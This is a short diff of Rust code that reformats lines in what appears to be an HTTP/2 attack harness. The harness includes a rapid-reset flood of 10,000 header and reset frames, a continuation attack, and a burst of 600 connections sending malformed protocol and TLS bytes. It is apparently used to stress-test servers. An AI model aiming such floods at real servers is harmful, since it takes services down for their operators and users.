@@ -93,7 +93,8 @@ impl<'a> Attack<'a> {
         let watch = watch_message(if self.kind == Kind::LargeCommits { heavy } else { ordinary });
         match self.kind {
             Kind::RapidReset => {
-                let reset = |stream| [headers(stream, &call(INFO), true), frame(3, 0, stream, &8_u32.to_be_bytes())].concat();
+                let reset =
+                    |stream| [headers(stream, &call(INFO), true), frame(3, 0, stream, &8_u32.to_be_bytes())].concat();
                 self.flood(Vec::new(), 10_000, 2, reset, growth).await;
             }
             Kind::Continuation => {
@@ -118,7 +119,11 @@ impl<'a> Attack<'a> {
             Kind::Garbage => {
                 for number in 0..600_usize {
                     let Ok(mut stream) = TcpStream::connect(self.target.address).await else { continue };
-                    let bytes: &[u8] = if number % 2 == 0 { b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" } else { &[0x16, 3, 1, 0xff, 0xff, 1] };
+                    let bytes: &[u8] = if number % 2 == 0 {
+                        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+                    } else {
+                        &[0x16, 3, 1, 0xff, 0xff, 1]
+                    };
                     self.frames += usize::from(stream.write_all(bytes).await.is_ok());
                     self.plain.push(stream);
                     if number % BATCH == 0 {
